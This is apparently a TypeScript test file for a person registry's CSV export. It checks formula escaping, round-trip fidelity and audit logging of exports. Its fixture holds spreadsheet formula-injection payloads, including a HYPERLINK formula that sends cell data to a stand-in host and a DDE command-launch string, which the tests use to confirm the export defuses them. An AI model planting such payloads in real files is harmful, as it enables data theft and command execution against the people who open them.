import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { fixedClock } from '../src/kernel/clock.ts';
import type { Db } from '../src/db/client.ts';
import { CSV_HEADER, PERSON_COLUMNS, exportCsvLine, exportPersons, importPersons, type PersonRecord } from '../src/modules/registry/index.ts';
import { verifyAudit } from '../src/modules/audit/index.ts';
import { freshDb } from './helpers/db.ts';
import { person } from './helpers/persons.ts';

const clock = fixedClock('2026-11-23T06:00:00Z');
const dir = mkdtempSync(join(tmpdir(), 'mobilize-export-safety-'));
let db: Db;

/** Free-text values a spreadsheet would run, and their neighbours that it would not. */
const TRICKY: Partial<PersonRecord>[] = [
  { last_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', first_name: '+cmd|" /C calc"!A0' },
  { last_name: '-2+3', first_name: '@SUM(A1:A9)', occupation: '=1+2' },
  { last_name: "'=already quoted", first_name: "''+twice", address: "'plain apostrophe" },
  { last_name: "O'Brien", first_name: 'Ахмет-Оглы', patronymic: '-', district: '@', rank: 'a=b' },
  { last_name: 'Tab\tinside', first_name: "'", occupation: "'-" },
];

before(async () => {
  db = await freshDb();
  const people = [...TRICKY.map((over, i) => person(5000 + i, over)), person(5100), person(5101)];
  const f = join(dir, 'seed.csv');
  const out = createWriteStream(f);
  out.write(CSV_HEADER + people.map(exportCsvLine).join(''));
  out.end();
  await once(out, 'finish');
  const s = await importPersons(db, { file: f, actor: 'seed', clock });
  assert.deepEqual([s.inserted, s.rejected], [people.length, 0]);
});
after(async () => {
  await db.close();
  rmSync(dir, { recursive: true, force: true });
});

async function exportTo(from: Db, name: string, actor = 'test'): Promise<{ path: string; n: number }> {
  const path = join(dir, name);
  const out = createWriteStream(path);
  const n = await exportPersons(from, out, { actor, clock, destination: path, pageSize: 3 });
  out.end();
  await once(out, 'finish');
  return { path, n };
}

const allRows = (from: Db) => from.query(`SELECT ${PERSON_COLUMNS.join(', ')} FROM persons ORDER BY iin`);

test('the seeded values are stored exactly as given (the import strips only the export escape)', async () => {
  for (const [i, over] of TRICKY.entries()) {
    const [row] = await db.query<Record<string, unknown>>(`SELECT ${Object.keys(over).join(', ')} FROM persons WHERE iin = $1`, [person(5000 + i).iin]);
    assert.deepEqual(row, over);
  }
});

test('export prefixes a formula-leading free-text cell with one quote, and nothing else', async () => {
  const { path } = await exportTo(db, 'tricky.csv');
  const rows = parse(readFileSync(path), { columns: true }) as Record<string, string>[];
  const byLast = (s: string) => rows.find((r) => r.last_name === s || r.last_name === `'${s}`) as Record<string, string>;
  const a = byLast('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
  assert.equal(a.last_name, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
  assert.equal(a.first_name, `'+cmd|" /C calc"!A0`);
  const b = byLast('-2+3');
  assert.deepEqual([b.last_name, b.first_name, b.occupation], [`'-2+3`, `'@SUM(A1:A9)`, `'=1+2`]);
  const c = byLast("'=already quoted");
  assert.deepEqual([c.last_name, c.first_name, c.address], [`''=already quoted`, `'''+twice`, "'plain apostrophe"]);
  const d = byLast("O'Brien");
  assert.deepEqual([d.last_name, d.first_name, d.patronymic, d.district, d.rank], ["O'Brien", 'Ахмет-Оглы', "'-", "'@", 'a=b']);
  const e = byLast('Tab\tinside');
  assert.deepEqual([e.first_name, e.occupation], ["'", "''-"]);
  // No cell of the file starts with a character a spreadsheet runs; closed formats (the +7 mobile) are left as they are.
  for (const r of rows) {
    for (const [col, v] of Object.entries(r)) if (col !== 'mobile') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${col}: ${v}`);
  }
  assert.ok(rows.every((r) => r.mobile === '' || r.mobile?.startsWith('+7')));
});

test('export → import into an empty registry gives back the same data and the same file', async () => {
  const a = await exportTo(db, 'round-a.csv');
  const other = await freshDb();
  try {
    const s = await importPersons(other, { file: a.path, actor: 'test', clock });
    assert.deepEqual([s.inserted, s.rejected, s.warnings], [a.n, 0, 0]);
    assert.deepEqual(await allRows(other), await allRows(db));
    const b = await exportTo(other, 'round-b.csv');
    assert.equal(readFileSync(b.path, 'utf8'), readFileSync(a.path, 'utf8'));
  } finally {
    await other.close();
  }
});

test('every export writes one registry.export audit entry with actor, count and filter, committed before the data', async () => {
  const before = await db.query<{ seq: number }>("SELECT seq FROM audit_log WHERE action = 'registry.export'");
  const { n, path } = await exportTo(db, 'audited.csv', 'cli:officer7');
  const entries = await db.query<{ seq: number; actor: string; subject: string; details: Record<string, unknown> }>(
    "SELECT seq, actor, subject, details FROM audit_log WHERE action = 'registry.export' ORDER BY seq",
  );
  assert.equal(entries.length, before.length + 1);
  const last = entries[entries.length - 1]!;
  assert.equal(last.actor, 'cli:officer7');
  assert.equal(last.subject, 'persons');
  assert.deepEqual(last.details, { persons: n, filter: {}, destination: path, format: 'csv' });
  assert.equal(n, TRICKY.length + 2);
  assert.equal((await verifyAudit(db)).ok, true);
});

test('an export that fails half-way is still on record', async () => {
  const before = Number((await db.query<{ n: number }>("SELECT count(*) AS n FROM audit_log WHERE action = 'registry.export'"))[0]?.n);
  const path = join(dir, 'broken.csv');
  const out = createWriteStream(path);
  let writes = 0;
  const original = out.write.bind(out);
  out.write = ((chunk: string) => {
    if (++writes > 2) throw new Error('disk full');
    return original(chunk);
  }) as typeof out.write;
  await assert.rejects(exportPersons(db, out, { actor: 'test', clock, pageSize: 2 }), /disk full/);
  out.end();
  await once(out, 'finish');
  const after = Number((await db.query<{ n: number }>("SELECT count(*) AS n FROM audit_log WHERE action = 'registry.export'"))[0]?.n);
  assert.equal(after, before + 1);
});
